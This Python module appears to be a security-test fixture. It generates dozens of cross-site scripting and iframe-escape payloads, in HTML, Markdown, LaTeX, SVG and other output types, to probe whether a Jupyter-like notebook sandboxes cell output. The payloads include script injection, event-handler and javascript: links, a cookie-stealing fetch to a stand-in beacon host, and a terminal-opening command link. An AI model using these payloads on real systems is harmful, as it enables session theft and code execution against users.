"""Outputs of every kind that try to act in the page that shows them.

An attack says `{api}` where it wants to reach Jupyter, `{beacon}` where it would tell somebody, and
sets `__pwned` where it reaches the page. So each of them is seen, whatever it gets at.
"""

import json

PAGE = (
    "top.__pwned=window.__pwned='{name}';top.document.title='pwned';"
    "fetch('{api}?{name}');fetch('{beacon}/{name}');"
)
"""What a script does first, where it runs in Jupyter's own page."""
ESCAPES = """
<p id="drawn">not drawn</p>
<script>
const tries = {
  parent: () => { parent.__pwned = 'parent' },
  top: () => { top.__pwned = 'top' },
  title: () => { top.document.title = 'pwned' },
  outer: () => { parent.document.body.innerHTML = 'pwned' },
  cookies: () => fetch('{beacon}/cookie?' + document.cookie),
  storage: () => { localStorage.setItem('pwned', 'yes'); top.__pwned = 'storage' },
  database: () => indexedDB.open('pwned'),
  fetch: () => fetch('{api}?frame-fetch', { credentials: 'include', mode: 'no-cors' }),
  request: () => { const r = new XMLHttpRequest(); r.open('GET', '{api}?frame-xhr'); r.send() },
  picture: () => { new Image().src = '{api}?frame-image' },
  beacon: () => navigator.sendBeacon('{beacon}/frame-sent', 'x'),
  socket: () => new WebSocket('{beacon}/frame-socket'.replace('http', 'ws')),
  events: () => new EventSource('{beacon}/frame-events'),
  worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('{beacon}/frame-worker')"]))),
  module: () => import('{beacon}/frame-module.js'),
  popup: () => open('{beacon}/frame-popup'),
  topward: () => { top.location = '{beacon}/frame-top' },
  upward: () => { parent.location = '{beacon}/frame-parent' },
  say: () => top.postMessage({ sandbookHeight: '9px;position:fixed' }, '*'),
  modal: () => alert('pwned'),
};
for (const one of Object.values(tries)) { try { one() } catch (error) {} }
document.body.insertAdjacentHTML('beforeend', `<iframe src="{api}?frame-frame"></iframe>
<iframe srcdoc="<script>fetch('{beacon}/frame-srcdoc');top.__pwned='srcdoc'</` + `script>">
</iframe><object data="{api}?frame-object"></object><link rel=stylesheet href="{beacon}/frame.css">
<form id=f action="{beacon}/frame-form"></form><a id=t target=_top href="{beacon}/frame-a">a</a>
<a id=b target=_blank href="{beacon}/frame-blank">b</a>
<a id=d download href="{beacon}/frame-d">d</a>`);
for (const id of ['f', 't', 'b', 'd']) {
  const node = document.getElementById(id);
  try { id === 'f' ? node.submit() : node.click() } catch (error) {}
}
document.getElementById('drawn').textContent = 'drawn';
setTimeout(() => { location = '{api}?frame-location' }, 1500);
</script>
"""
"""A page with scripts that tries all ways out of its frame; at last, it goes away itself."""
REFRESH = '<meta http-equiv="refresh" content="0;url={api}?refresh"><p>refresh</p>'
BASE = '<base href="{beacon}/" target="_top"><a href="x">base</a><img src="based.png">'
OVERLAY = (
    '<div id="main" class="jp-Dialog lm-mod-hidden" style="position:fixed;inset:0;z-index:99999;'
    'background:url({beacon}/css);color:red;margin:-9999px">overlay</div>'
)
LINKER = (
    '<b data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">bold</b>'
    '<a href="#" data-commandlinker-command="terminal:create-new" '
    'data-commandlinker-args="{}">linker</a>'
)
LINKS = (
    '<a href="javascript:{page}">one</a> <a href=" java&#10;script:{page}">two</a> '
    '<a href="data:text/html,%3Cscript%3E{page}%3C/script%3E">three</a> '
    '<a href="/api/kernels">four</a> <a href="../api/kernels">five</a> <a href="//x/api">six</a> '
    '<a href="vbscript:x">seven</a>'
)
HANDLERS = (
    '<img src=x onerror="{page}"><img src="{api}?img">'
    '<img src="{beacon}/img" srcset="{beacon}/s 2x">'
    '<details open ontoggle="{page}">x</details><p onmouseover="{page}">hover</p>'
    '<table background="{api}?table"><td background="{beacon}/td">cell</td></table>'
)
DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80" onload="{page}">'
    '<script>{page}</script><image href="{api}?svg" width="9" height="9"/><foreignObject><img '
    'xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{page}"/></foreignObject>'
    '<circle r="40"/></svg>'
)
MARKED = (
    "# Title\n\n<script>{page}</script> [a](javascript:{page}) ![b]({api}?md) <{beacon}/auto>\n\n"
    "[c]: javascript:{page}\n[c]\n\n<img src=x onerror='{page}'>\n\n"
    '```mermaid\ngraph TD; a-->b; click a href "javascript:{page}"\n```\n\n' + LINKER + OVERLAY
)
FORMULA = (
    r"$\href{javascript:{page}}{x}$ $\style{position:fixed;top:0;z-index:9999}{y}$ "
    r"$\unicode{<img src=x onerror='{page}'>}$ $\class{jp-Dialog}{z}$ "
    r"$\let\x\href \x{javascript:{page}}{w}$ $\require{html}$ "
    r"$\text{<img src=x onerror='{page}'>}$"
)
VEGA = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"url": "{api}?vega"},
    "mark": "point",
}
WIDGET = {"version_major": 2, "version_minor": 0, "model_id": "x"}
PLACES = {
    "type": "Feature",
    "geometry": {"type": "Point", "coordinates": [0, 0]},
    "properties": {"popup": "<img src=x onerror='{page}'>"},
}

ATTACKS = {
    "script": ("text/html", "<script>{page}</script>"),
    "escapes": ("text/html", ESCAPES),
    "handlers": ("text/html", HANDLERS),
    "links": ("text/html", LINKS),
    "overlay": ("text/html", OVERLAY),
    "linker": ("text/html", LINKER),
    "refresh": ("text/html", REFRESH),
    "base": ("text/html", BASE),
    "frames": ("text/html", '<iframe src="{api}?f"></iframe><embed src="{api}?e">'),
    "style": ("text/html", "<style>body{background:url({beacon}/style)}</style><p>style</p>"),
    "mutation": (
        "text/html",
        '<math><mtext><table><mglyph><style><img src=x onerror="{page}"></style></table></math>',
    ),
    "formula in html": ("text/html", "<p>" + FORMULA + "</p>"),
    "markdown": ("text/markdown", MARKED),
    "formula in markdown": ("text/markdown", FORMULA),
    "latex": ("text/latex", FORMULA),
    "drawing": ("image/svg+xml", DRAWING),
    "picture": ("image/png", "<script>{page}</script>"),
    "document": ("application/pdf", "<html><script>{page}</script>"),
    "javascript": ("application/javascript", "{page}"),
    "module": ("text/javascript", "{page}"),
    "vega": ("application/vnd.vegalite.v5+json", json.dumps(VEGA)),
    "plotly": ("application/vnd.plotly.v1+json", json.dumps({"data": []})),
    "widget": ("application/vnd.jupyter.widget-view+json", json.dumps(WIDGET)),
    "places": ("application/geo+json", json.dumps(PLACES)),
    "stderr": ("application/vnd.jupyter.stderr", "<img src=x onerror='{page}'>"),
    "error": (
        "application/vnd.jupyter.error",
        json.dumps({"ename": "<script>", "evalue": "x"}),
    ),
    "mermaid": ("text/vnd.mermaid", 'graph TD; a; click a href "javascript:{page}"'),
    "holoviews": ("application/vnd.holoviews.v0+json", "{}"),
    "xhtml": ("application/xhtml+xml", "<html><script>{page}</script></html>"),
    "json": ("application/json", '{"<img src=x onerror={page}>": "javascript:{page}"}'),
    "plain": (
        "text/plain",
        "<img src=x onerror='{page}'> javascript:{page} \x1b]8;;javascript:1\x07x",
    ),
}


def attack(name, api="/api/contents/probe", beacon="http://beacon.invalid"):
    """Give the type and the text of an attack."""
    mime, text = ATTACKS[name]
    word = name.replace(" ", "-")
    page = PAGE.replace("{name}", word).replace("{api}", api).replace("{beacon}", beacon)
    return mime, text.replace("{page}", page).replace("{api}", api).replace("{beacon}", beacon)


def shown_by(name, **where):
    """Write the cell that shows an attack."""
    mime, text = attack(name, **where)
    return f"display {mime} <<'THE_END'\n{text}\nTHE_END"


def forged_by(name, **where):
    """Write the cell that shows it without `display`: the number of a session can be found."""
    mime, text = attack(name, **where)
    return (
        "number=$(declare -f | grep -om1 '7717;[0-9]*')\n"
        f"text=$(base64 -w0 <<'THE_END'\n{text}\nTHE_END\n)\n"
        f"printf '\\033]%s;M;%s;;%s\\007' \"$number\" '{mime}' \"$text\" >/dev/tty"
    )
